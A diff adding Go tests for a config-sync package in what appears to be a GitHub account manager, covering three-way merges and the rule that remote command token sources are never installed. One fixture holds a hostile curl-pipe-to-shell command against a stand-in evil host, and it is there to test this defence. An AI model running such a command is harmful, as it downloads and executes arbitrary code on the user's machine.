@@ -0,0 +1,189 @@
+package configsync
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/riad804/github-auth-manager/internal/config"
+)
+
+func TestCommandTokenSourcesAreNeverSynced(t *testing.T) {
+	command := &config.TokenSource{Type: config.TokenSourceCommand, Command: "op read op://work/gh"}
+	evil := &config.TokenSource{Type: config.TokenSourceCommand, Command: "curl https://evil.example | sh"}
+	env := &config.TokenSource{Type: config.TokenSourceEnv, Env: "WORK_TOKEN"}
+
+	tests := []struct {
+		name        string
+		local       []config.Context
+		remote      []config.Context // as read from the synced file
+		want        []config.Context // local contexts after the pull
+		wantIgnored []string
+	}{
+		{
+			name:        "remote command is not installed",
+			remote:      []config.Context{{Name: "work", TokenSource: evil}},
+			want:        []config.Context{{Name: "work"}},
+			wantIgnored: []string{"work"},
+		},
+		{
+			name:        "remote command does not replace a local one",
+			local:       []config.Context{{Name: "work", TokenSource: command}},
+			remote:      []config.Context{{Name: "work", TokenSource: evil}},
+			want:        []config.Context{{Name: "work", TokenSource: command}},
+			wantIgnored: []string{"work"},
+		},
+		{
+			name:   "local command survives a remote change",
+			local:  []config.Context{{Name: "work", TokenSource: command}},
+			remote: []config.Context{{Name: "work", Email: "me@work.example"}},
+			want:   []config.Context{{Name: "work", Email: "me@work.example", TokenSource: command}},
+		},
+		{
+			name:   "remote env source replaces a local command",
+			local:  []config.Context{{Name: "work", TokenSource: command}},
+			remote: []config.Context{{Name: "work", TokenSource: env}},
+			want:   []config.Context{{Name: "work", TokenSource: env}},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cfg := &config.AppConfig{Contexts: tt.local}
+			if shared := toShared(cfg); len(stripCommands(shared)) != 0 {
+				t.Errorf("toShared() kept a command token source: %+v", shared.Contexts)
+			}
+
+			remote := &Shared{Version: sharedVersion, Contexts: append([]config.Context{}, tt.remote...)}
+			ignored := stripCommands(remote)
+			if !reflect.DeepEqual(ignored, tt.wantIgnored) {
+				t.Errorf("stripCommands() = %v, want %v", ignored, tt.wantIgnored)
+			}
+			merged, _ := mergeShared(&Shared{}, toShared(cfg), remote, false)
+			applyShared(cfg, merged)
+			if !reflect.DeepEqual(cfg.Contexts, tt.want) {
+				t.Errorf("contexts after pull = %+v, want %+v", cfg.Contexts, tt.want)
+			}
+		})
+	}
+}
+
+func TestMerge3(t *testing.T) {
+	type entry struct{ Key, Value string }
+	e := func(pairs ...string) []entry {
+		var out []entry
+		for i := 0; i+1 < len(pairs); i += 2 {
+			out = append(out, entry{pairs[i], pairs[i+1]})
+		}
+		return out
+	}
+
+	tests := []struct {
+		name                string
+		base, local, remote []entry
+		preferLocal         bool
+		want                []entry
+		wantConflicts       []Conflict
+	}{
+		{
+			name:   "first sync keeps both sides",
+			local:  e("a", "1"),
+			remote: e("b", "2"),
+			want:   e("a", "1", "b", "2"),
+		},
+		{
+			name:   "remote change is taken",
+			base:   e("a", "1"),
+			local:  e("a", "1"),
+			remote: e("a", "2"),
+			want:   e("a", "2"),
+		},
+		{
+			name:   "local change is kept",
+			base:   e("a", "1"),
+			local:  e("a", "2"),
+			remote: e("a", "1"),
+			want:   e("a", "2"),
+		},
+		{
+			name:   "remote removal is taken",
+			base:   e("a", "1", "b", "1"),
+			local:  e("a", "1", "b", "1"),
+			remote: e("a", "1"),
+			want:   e("a", "1"),
+		},
+		{
+			name:   "local removal is kept",
+			base:   e("a", "1", "b", "1"),
+			local:  e("a", "1"),
+			remote: e("a", "1", "b", "1"),
+			want:   e("a", "1"),
+		},
+		{
+			name:   "same change on both sides",
+			base:   e("a", "1"),
+			local:  e("a", "2"),
+			remote: e("a", "2"),
+			want:   e("a", "2"),
+		},
+		{
+			name:          "conflict on pull takes remote",
+			base:          e("a", "1"),
+			local:         e("a", "2"),
+			remote:        e("a", "3"),
+			want:          e("a", "3"),
+			wantConflicts: []Conflict{{Kind: "entry", Key: "a", Kept: "remote"}},
+		},
+		{
+			name:          "conflict on push keeps local",
+			base:          e("a", "1"),
+			local:         e("a", "2"),
+			remote:        e("a", "3"),
+			preferLocal:   true,
+			want:          e("a", "2"),
+			wantConflicts: []Conflict{{Kind: "entry", Key: "a", Kept: "local"}},
+		},
+		{
+			name:          "changed locally, removed remotely",
+			base:          e("a", "1"),
+			local:         e("a", "2"),
+			remote:        nil,
+			want:          nil,
+			wantConflicts: []Conflict{{Kind: "entry", Key: "a", Kept: "remote"}},
+		},
+		{
+			name:   "removed on both sides",
+			base:   e("a", "1"),
+			local:  nil,
+			remote: nil,
+			want:   nil,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, conflicts := merge3("entry", tt.base, tt.local, tt.remote, func(x entry) string { return x.Key }, tt.preferLocal)
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("merged = %v, want %v", got, tt.want)
+			}
+			if !reflect.DeepEqual(conflicts, tt.wantConflicts) {
+				t.Errorf("conflicts = %v, want %v", conflicts, tt.wantConflicts)
+			}
+		})
+	}
+}
+
+func TestMergeSharedMatchesRepositoriesByKey(t *testing.T) {
+	base := &Shared{Repositories: []config.RepoConfig{{Remote: "github.com/acme/api", ContextName: "work"}}}
+	local := &Shared{Repositories: []config.RepoConfig{
+		{Remote: "github.com/acme/api", ContextName: "work"},
+		{Path: "~/src/api", ContextName: "personal"},
+	}}
+	remote := &Shared{Repositories: []config.RepoConfig{{Remote: "github.com/acme/api", ContextName: "client"}}}
+
+	merged, conflicts := mergeShared(base, local, remote, false)
+	want := []config.RepoConfig{
+		{Remote: "github.com/acme/api", ContextName: "client"},
+		{Path: "~/src/api", ContextName: "personal"},
+	}
+	if !reflect.DeepEqual(merged.Repositories, want) || len(conflicts) != 0 {
+		t.Errorf("repositories = %v, conflicts = %v, want %v and none", merged.Repositories, conflicts, want)
+	}
+}